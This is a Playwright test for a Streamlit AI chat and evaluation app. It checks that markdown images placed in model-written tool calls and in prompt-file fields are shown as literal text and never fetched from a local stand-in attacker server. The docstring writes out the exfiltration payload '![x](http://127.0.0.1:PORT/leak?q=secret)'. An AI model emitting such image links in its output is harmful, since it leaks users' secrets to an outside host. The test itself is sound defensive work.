"""Model-written and file-supplied text carrying markdown images, in Debian's Chromium on the app
started as `streamlit run app.py`: the browser must fetch nothing from the attacker's host.

The attacker's host is a local HTTP server (tests/support/exfiltration.LeakCatcher) that records
every request. The chat goes to an Azure AI endpoint served by tests/support/fake_service.py: its
model calls a function whose name and arguments are `![x](http://127.0.0.1:PORT/leak?q=secret)`
and friends. The Evaluate page opens a prompt file of PLAYGROUND_PROMPTS_DIR whose name,
description and evaluator name carry the same text, and runs it. Each text is first seen drawn,
literally, then the catcher must have had no request.
"""

from __future__ import annotations

import json

from playwright.sync_api import expect

from tests.support.app_server import chromium_page, idle, running_app
from tests.support.exfiltration import PROMPT_FILE, LeakCatcher, hostile
from tests.support.fake_service import FakeService, Reply, tool_call_reply

# What the Evaluate page's run gets (it does not stream): a whole reply, as the service sends it.
COMPLETION = Reply(body={"id": "chatcmpl-fake", "object": "chat.completion", "created": 0, "model": "fake-model",
                         "choices": [{"index": 0, "message": {"role": "assistant", "content": "hi"},
                                      "finish_reason": "stop"}],
                         "usage": {"prompt_tokens": 5, "completion_tokens": 1, "total_tokens": 6}})

ELEMENTS_AT = """url => [...document.querySelectorAll('img, a, link, iframe, source, video, audio')]
    .map(e => e.getAttribute('src') || e.getAttribute('href') || '').filter(v => v.includes(url))"""


def test_model_written_and_file_supplied_markdown_images_fetch_nothing(endpoint, tmp_path):
    prompts = tmp_path / "prompts"
    prompts.mkdir()
    with LeakCatcher() as catcher:
        text = hostile(catcher.url)
        (prompts / "hostile.prompt.yml").write_text(PROMPT_FILE.format(text=json.dumps(text)))
        replies = [tool_call_reply("call_1", text, json.dumps({"city": text})), COMPLETION]
        with FakeService({"/chat/completions": replies}) as fake, \
                running_app({"PLAYGROUND_LOCAL_PORT": str(endpoint.port), "AZURE_INFERENCE_ENDPOINT": fake.url,
                             "AZURE_INFERENCE_CREDENTIAL": "azure-key-123", "PLAYGROUND_PROMPTS_DIR": str(prompts)},
                            tmp_path / "app.log") as url, \
                chromium_page(width=1400, height=1000) as page:
            page.goto(url)
            box = page.get_by_test_id("stChatInput").locator("textarea")
            box.fill("Weather?")
            box.press("Enter")
            call = page.get_by_test_id("stChatMessage").nth(1)
            # Drawn, as the model wrote it: the call's name, its arguments, the result box's label.
            expect(call).to_contain_text(f"Calls {text} · call_1", timeout=60_000)
            expect(call).to_contain_text("finish: tool_calls")
            expect(call.get_by_test_id("stCode")).to_contain_text(json.dumps(text)[1:-1])
            expect(call.get_by_test_id("stWidgetLabel")).to_contain_text(f"Result of {text}")
            idle(page)

            page.get_by_role("link", name="Evaluate").click()
            expect(page.get_by_role("heading", name="Evaluate")).to_be_visible(timeout=30_000)
            idle(page)
            picker = page.get_by_test_id("stSidebar").get_by_test_id("stSelectbox").filter(has_text="Or one from")
            picker.get_by_role("combobox").click()
            page.get_by_role("option", name="hostile.prompt.yml").click()
            expect(page.get_by_role("heading", name=text)).to_be_visible(timeout=30_000)
            expect(page.get_by_test_id("stMain").get_by_test_id("stCaptionContainer").filter(has_text=text).first) \
                .to_be_visible()
            idle(page)
            page.get_by_role("button", name="Run").click()
            expect(page.get_by_text(f"{text}: 1.00 pass")).to_be_visible(timeout=120_000)
            idle(page)
            # Everything is drawn; an image would be requested at once: give it half a second to show.
            assert not catcher.hit.wait(0.5), f"the browser fetched the attacker's URL: {catcher.paths}"
            assert page.evaluate(ELEMENTS_AT, catcher.url) == []  # no image, no link to it either
